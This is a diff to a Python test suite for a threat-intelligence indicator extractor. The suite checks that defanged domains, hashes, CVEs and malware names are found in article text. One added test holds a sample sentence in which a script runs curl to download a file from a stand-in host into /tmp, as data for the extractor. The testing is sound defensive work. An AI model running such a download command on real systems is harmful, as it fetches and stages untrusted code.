@@ -7,7 +7,13 @@ from hypothesis import strategies as st
 
 from ingest.indicators import Document, document_from_html, document_from_text, extract
 from intel.canonical import canonical, defang
-from tests.ingest.indicators.snippets import ARTICLE, MD5, SHA256, SNIPPETS
+from tests.ingest.indicators.snippets import (
+    ARTICLE,
+    DISARMING_ARTICLE,
+    MD5,
+    SHA256,
+    SNIPPETS,
+)
 
 LABEL = st.from_regex(r"[a-z][a-z0-9]{2,9}(-[a-z0-9]{2,5})?", fullmatch=True)
 DOMAIN = st.tuples(LABEL, LABEL, st.sampled_from(["com", "ru", "xyz", "net", "co.uk"])).map(".".join)
@@ -22,10 +28,16 @@ INDICATOR = st.one_of(
     st.tuples(LABEL, DOMAIN).map(lambda parts: ("email", f"{parts[0]}@{parts[1]}")),
     st.from_regex(r"[0-9a-f]{31}[a-f]", fullmatch=True).map(lambda value: ("hash_md5", value)),
 )
-HOSTILE = st.text(alphabet="abT1059.[]()@:/\\hxp-_<>{}|;,'\"`\n\t CVE\u200b\ue000\ud800é移", max_size=400)
+HOSTILE = st.text(
+    alphabet="abT1059.[]()@:/\\hxp-_<>{}|;,'\"`\n\t CVE\u200b\ue000\ud800é移",
+    max_size=400,
+)
 
 
-@given(INDICATOR, st.sampled_from(["{}", "Then {} answered.", "({})", "“{}”", "seen: {},", "`{}`", "| {} | 443 |"]))
+@given(
+    INDICATOR,
+    st.sampled_from(["{}", "Then {} answered.", "({})", "“{}”", "seen: {},", "`{}`", "| {} | 443 |"]),
+)
 @settings(deadline=None)
 def test_what_is_disarmed_is_found_again(indicator: tuple[str, str], around: str) -> None:
     type, value = indicator
@@ -62,12 +74,20 @@ def test_places_are_right_where_invisible_characters_were_cut_out() -> None:
 def test_indicators_come_once_in_order_of_first_appearance() -> None:
     text = f"mist-post[.]com, {MD5}, gale-post[.]com, MIST-post[.]com, CVE-2024-3400, {MD5.upper()}"
     found = extract(document_from_text(text)).indicators
-    assert [each.value for each in found] == ["mist-post.com", MD5, "gale-post.com", "CVE-2024-3400"]
+    assert [each.value for each in found] == [
+        "mist-post.com",
+        MD5,
+        "gale-post.com",
+        "CVE-2024-3400",
+    ]
     assert [len(each.occurrences) for each in found] == [2, 2, 1, 1]
 
 
 def test_beyond_the_limit_indicators_are_dropped_and_counted() -> None:
-    extraction = extract(document_from_text(" ".join(f"h{n}[.]gale-post[.]com" for n in range(30))), most_indicators=20)
+    extraction = extract(
+        document_from_text(" ".join(f"h{n}[.]gale-post[.]com" for n in range(30))),
+        most_indicators=20,
+    )
     assert len(extraction.indicators) == 20
     assert extraction.dropped == 10
     assert extraction.limits_reached == ("indicators",)
@@ -102,7 +122,8 @@ def test_a_list_without_blanks_is_read_whole() -> None:
 
 def test_the_publisher_is_no_indicator() -> None:
     document = Document(
-        f"{ARTICLE} The server blog.gale-post.com and the server mist-post.ru.", publisher_host="gale-post.com"
+        f"{ARTICLE} The server blog.gale-post.com and the server mist-post.ru.",
+        publisher_host="gale-post.com",
     )
     assert [each.value for each in extract(document).indicators] == ["mist-post.ru"]
 
@@ -110,3 +131,22 @@ def test_the_publisher_is_no_indicator() -> None:
 def test_a_hash_in_the_link_of_a_lookup_service_is_an_indicator_and_the_link_is_none() -> None:
     found = extract(document_from_text(f"{ARTICLE} https://www.virustotal.com/gui/file/{SHA256}/detection")).indicators
     assert [(each.type, each.value) for each in found] == [("hash_sha256", SHA256)]
+
+
+def test_what_a_command_fetches_is_an_indicator() -> None:
+    text = f"{ARTICLE}\nThe script then ran curl -s -o /tmp/a http://gale-post.com/w and slept.\n"
+    assert [each.value for each in extract(document_from_text(text)).indicators] == [
+        "http://gale-post.com/w",
+        "gale-post.com",
+    ]
+
+
+def test_a_host_that_is_disarmed_once_is_an_indicator_everywhere() -> None:
+    text = f"{DISARMING_ARTICLE} Later panel.orlop-yard.net came back, and weather-gale.com did not."
+    found = {each.value: len(each.occurrences) for each in extract(document_from_text(text)).indicators}
+    assert found == {"panel.orlop-yard.net": 2}
+
+
+def test_names_of_malware_are_found_in_scripts_without_blanks() -> None:
+    found = extract(document_from_text("Androidの場合、MoqHaoに感染します。")).indicators
+    assert [each.value for each in found] == ["MoqHao"]
